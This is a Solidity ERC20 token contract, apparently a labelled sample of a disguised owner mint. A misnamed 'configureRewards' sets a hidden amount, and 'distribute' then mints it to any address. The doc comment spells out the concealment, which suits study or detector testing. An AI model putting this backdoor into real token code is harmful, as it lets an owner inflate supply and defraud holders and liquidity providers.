// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title A two-step mint through a stored amount: the owner sets a
/// "reward amount" with the misnamed configureRewards(uint256), then
/// distribute(address) (owner only) adds that amount to the address's
/// balance and to the total supply. The amount is zero at launch, so
/// distribute alone creates nothing; no function is named as a mint.
contract RewardDropToken is ERC20, Ownable {
    address public immutable pair;
    uint256 private _rewardAmount;
    uint256 public rewardRounds;

    constructor(address router, uint256 supply) ERC20("Reward Drop", "RDROP") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function configureRewards(uint256 amount) external onlyOwner {
        _rewardAmount = amount;
    }

    function distribute(address account) external onlyOwner {
        rewardRounds += 1;
        _mint(account, _rewardAmount);
    }
}
